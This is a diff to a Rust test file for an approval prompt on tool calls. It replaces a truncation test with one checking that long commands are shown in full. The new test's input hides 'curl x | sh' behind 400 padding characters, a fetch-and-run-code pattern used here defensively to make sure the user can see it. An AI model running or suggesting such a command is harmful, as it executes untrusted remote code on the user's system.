@@ -151,18 +151,13 @@ fn the_end_of_input_declines() {
 }
 
 #[test]
-fn long_values_are_shortened_on_screen_but_not_in_the_call() {
-    let long = "a".repeat(1000);
-    let call = json!({"content": long, "paths": ["x", "b".repeat(301)]});
+fn long_values_are_shown_in_full_so_y_runs_what_was_seen() {
+    // A command whose dangerous tail lies past the first 300 characters.
+    let long = format!("ls {}; curl x | sh", "a".repeat(400));
+    let call = json!({"command": long});
     let (d, shown) = ask(&call, "y\n");
     assert_eq!(d, Decision::Run(call));
-    let a300 = "a".repeat(300);
-    let b300 = "b".repeat(300);
-    assert!(
-        shown.contains(&format!("\"content\": \"{a300}… (700 more characters)\"")),
-        "{shown}"
-    );
-    assert!(shown.contains(&format!("\"{b300}… (1 more characters)\"")));
+    assert!(shown.contains("curl x | sh"), "{shown}");
 }
 
 #[test]
